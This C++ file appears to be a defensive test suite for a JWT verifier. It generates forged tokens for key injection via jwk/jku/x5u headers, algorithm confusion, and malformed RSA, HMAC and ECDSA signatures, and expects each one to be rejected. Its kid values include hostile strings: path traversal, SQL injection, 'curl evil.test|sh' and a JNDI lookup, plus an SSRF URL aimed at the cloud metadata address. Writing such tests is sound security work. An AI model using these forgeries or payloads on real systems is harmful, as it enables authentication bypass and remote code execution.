// Attacks on the choice of the key, and on the signature.
#include <cstdlib>
#include <utility>

#include <openssl/pem.h>
#include <openssl/rsa.h>

#include "libs/identity/jwk_text.h"
#include "libs/identity/openssl_ptr.h"
#include "libs/identity/token_attack_collector.h"

#include "absl/strings/escaping.h"
#include "absl/strings/str_split.h"

namespace penstock::identity {
namespace {

void Require(bool done) {
  if (!done) std::abort();
}

std::string DerOf(const std::string& pem) {
  std::string base64;
  for (const absl::string_view line : absl::StrSplit(pem, '\n')) {
    if (!line.empty() && line[0] != '-') base64.append(line.data(), line.size());
  }
  std::string der;
  Require(absl::Base64Unescape(base64, &der));
  return der;
}

// An RSA signature of another kind than RS256.
std::string SignRsa(const std::string& private_pem, absl::string_view input, const char* digest,
                    int padding) {
  const BioPtr bio(BIO_new_mem_buf(private_pem.data(), static_cast<int>(private_pem.size())));
  const PkeyPtr key(PEM_read_bio_PrivateKey(bio.get(), nullptr, nullptr, nullptr));
  const MdCtxPtr context(EVP_MD_CTX_new());
  EVP_PKEY_CTX* options = nullptr;
  Require(EVP_DigestSignInit_ex(context.get(), &options, digest, nullptr, nullptr, key.get(),
                                nullptr) == 1 &&
          EVP_PKEY_CTX_set_rsa_padding(options, padding) == 1);
  std::string signature(512, '\0');
  size_t size = signature.size();
  Require(EVP_DigestSign(context.get(), reinterpret_cast<unsigned char*>(signature.data()), &size,
                         reinterpret_cast<const unsigned char*>(input.data()), input.size()) == 1);
  signature.resize(size);
  return signature;
}

}  // namespace

void TokenAttackCollector::KeysInHeaders() {
  const KeyPem own = GenerateKeyPem(JwtAlgorithm::kEs256).value();
  const JwtSigner forger = JwtSigner::Create(JwtAlgorithm::kEs256, own.private_key, "es").value();
  const std::vector<std::pair<std::string, std::string>> members = {
      {"jwk: the forger's key (CVE-2018-0114)", absl::StrCat(R"("jwk":)", JwkOf(own.public_key))},
      {"jku: the forger's key set", R"("jku":"https://evil.test/jwks")"},
      {"jku of the issuer, by a detour", R"("jku":"https://issuer.test@evil.test/jwks")"},
      {"jku at the metadata service", R"("jku":"http://169.254.169.254/latest/meta-data")"},
      {"x5u", R"("x5u":"https://evil.test/x5")"},
      {"x5c", absl::StrCat(R"("x5c":[")", absl::Base64Escape(DerOf(own.public_key)), R"("])")},
      {"x5t", R"("x5t":"AAAA","x5t#S256":"AAAA")"}};
  for (const auto& [name, member] : members) {
    const std::string header = absl::StrCat(R"({"alg":"ES256","kid":"es",)", member, "}");
    Token(name, forger.SignParts(header, TokenLab::Payload()), "TOKEN_SIGNATURE");
  }
  Token("jwk and no kid",
        forger.SignParts(absl::StrCat(R"({"alg":"ES256","jwk":)", JwkOf(own.public_key), "}"),
                         TokenLab::Payload()),
        "TOKEN_KEY_UNKNOWN");
}

void TokenAttackCollector::Kids() {
  const std::vector<std::pair<std::string, std::string>> kids = {
      {"a path to an empty file", "../../../../dev/null"},
      {"SQL", "x' UNION SELECT 'key' --"},
      {"a command", "es;curl evil.test|sh"},
      {"a template", "${jndi:ldap://evil.test/a}"},
      {"a URL", "https://evil.test/jwks"},
      {"a header behind a line break", R"(es\r\nx-admin: 1)"},
      {"control characters", R"(\u0001\u001b[31mes)"},
      {"a zero byte", R"(es\u0000)"},
      {"a Cyrillic letter that looks like e", R"(\u0435s)"},
      {"a letter of another width", R"(\uff45s)"},
      {"capitals", "ES"},
      {"a blank", " es"},
      {"2,000 bytes", std::string(2000, 'k')},
      {"nothing", ""}};
  for (const auto& [name, kid] : kids) {
    Header("kid: " + name, absl::StrCat(R"({"alg":"ES256","kid":")", kid, R"("})"),
           "TOKEN_KEY_UNKNOWN");
  }
  Header("kid: a list", R"({"alg":"ES256","kid":["es"]})", "TOKEN_MALFORMED");
  Header("kid: a number", R"({"alg":"ES256","kid":0})", "TOKEN_MALFORMED");
  Header("no kid, several keys", R"({"alg":"ES256"})", "TOKEN_KEY_UNKNOWN");
}

void TokenAttackCollector::Confusions() {
  const std::string& rsa = lab_.rsa().public_key;
  const std::string& ec = lab_.ec().public_key;
  const std::vector<std::pair<std::string, std::string>> secrets = {
      {"the RSA key's PEM", rsa},
      {"the PEM without its last line break", rsa.substr(0, rsa.size() - 1)},
      {"the RSA key's DER", DerOf(rsa)},
      {"the RSA key's JWK", JwkOf(rsa)},
      {"the EC key's PEM", ec}};
  for (const auto& [name, secret] : secrets) {
    const std::string kid = name.find("EC") == std::string::npos ? "rs" : "es";
    const JwtSigner forger = JwtSigner::Create(JwtAlgorithm::kHs256, secret, kid).value();
    Token(absl::StrCat("HS256 with ", name, " as secret (CVE-2015-9235)"),
          forger.SignPayload(TokenLab::Payload()), "TOKEN_ALGORITHM");
  }
  const JwtSigner forger = JwtSigner::Create(JwtAlgorithm::kHs256, rsa, "hs").value();
  Token("the same under the kid of the secret", forger.SignPayload(TokenLab::Payload()),
        "TOKEN_SIGNATURE");
  Token("an EC signature under the RSA key",
        Es().SignParts(R"({"alg":"ES256","kid":"rs"})", TokenLab::Payload()), "TOKEN_ALGORITHM");
  Token("an EC signature that says it is RSA's", Es().SignParts(kRsHeader, TokenLab::Payload()),
        "TOKEN_SIGNATURE");
  Token("an RSA signature that says it is EC's", Rs().SignParts(kEsHeader, TokenLab::Payload()),
        "TOKEN_SIGNATURE");
  Token("the same kid of another issuer", lab_.other_signer().SignPayload(TokenLab::Payload()),
        "TOKEN_SIGNATURE");
}

void TokenAttackCollector::EcdsaSignatures() {
  const std::string zero(32, '\0');
  const std::string n =
      absl::HexStringToBytes("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551");
  const auto es = [this](absl::string_view input) { return Es().Signature(input); };
  const auto r_of = [es](absl::string_view input) { return es(input).substr(0, 32); };
  const auto s_of = [es](absl::string_view input) { return es(input).substr(32); };
  const auto fixed = [](std::string bytes) {
    return [bytes = std::move(bytes)](absl::string_view) { return bytes; };
  };
  Signature("r = s = 0 (CVE-2022-21449)", kEsHeader, fixed(zero + zero));
  Signature("r = 0", kEsHeader, [=](auto input) { return zero + s_of(input); });
  Signature("s = 0", kEsHeader, [=](auto input) { return r_of(input) + zero; });
  Signature("r = n", kEsHeader, [=](auto input) { return n + s_of(input); });
  Signature("s = n", kEsHeader, [=](auto input) { return r_of(input) + n; });
  Signature("r = s = n", kEsHeader, fixed(n + n));
  Signature("r and s of ones", kEsHeader, fixed(std::string(64, '\xff')));
  Signature("r and s of one", kEsHeader, fixed(zero.substr(1) + '\x01' + zero.substr(1) + '\x01'));
  Signature("r and s exchanged", kEsHeader, [=](auto input) { return s_of(input) + r_of(input); });
  Signature("in DER", kEsHeader, [=](auto input) {
    return absl::StrCat("\x30\x44\x02\x20", r_of(input), "\x02\x20", s_of(input));
  });
  Signature("cut by a byte", kEsHeader, [=](auto input) { return es(input).substr(0, 63); });
  Signature("with a byte behind", kEsHeader, [=](auto input) { return es(input) + '\0'; });
  Signature("of P-521's length", kEsHeader, fixed(std::string(132, '\x01')));
}

void TokenAttackCollector::OtherSignatures() {
  const auto rs = [this](absl::string_view input) { return Rs().Signature(input); };
  const std::string& pem = lab_.rsa().private_key;
  Signature("RSA: cut by a byte", kRsHeader,
            [=](auto input) { return rs(input).substr(0, rs(input).size() - 1); });
  Signature("RSA: a zero before", kRsHeader,
            [=](auto input) { return std::string(1, '\0') + rs(input); });
  Signature("RSA: larger than the modulus", kRsHeader,
            [](auto) { return std::string(256, '\xff'); });
  Signature("RSA: zero", kRsHeader, [](auto) { return std::string(256, '\0'); });
  Signature("RSA: one", kRsHeader, [](auto) { return std::string(255, '\0') + '\x01'; });
  Signature("RSA: PSS padding", kRsHeader,
            [&pem](auto input) { return SignRsa(pem, input, "SHA256", RSA_PKCS1_PSS_PADDING); });
  Signature("RSA: over SHA-1", kRsHeader,
            [&pem](auto input) { return SignRsa(pem, input, "SHA1", RSA_PKCS1_PADDING); });
  Signature("RSA: over SHA-512", kRsHeader,
            [&pem](auto input) { return SignRsa(pem, input, "SHA512", RSA_PKCS1_PADDING); });
  Signature("RSA: of the payload alone", kRsHeader,
            [=](auto input) { return rs(input.substr(input.find('.') + 1)); });
  Signature("HMAC: cut to 16 bytes", kHsHeader,
            [this](auto input) { return Hs().Signature(input).substr(0, 16); });
  Signature("HMAC: none", kHsHeader, [](auto) { return std::string(); });
  Signature("HMAC: of another secret", kHsHeader,
            [this](auto input) { return lab_.other_signer().Signature(input); });
  const std::string good = Good();
  const std::string other = TokenLab::Payload({{"sub", R"("bob")"}});
  Token("the payload exchanged",
        absl::StrCat(EncodeBase64Url(kEsHeader), ".", EncodeBase64Url(other), ".",
                     good.substr(good.rfind('.') + 1)),
        "TOKEN_SIGNATURE");
}

}  // namespace penstock::identity
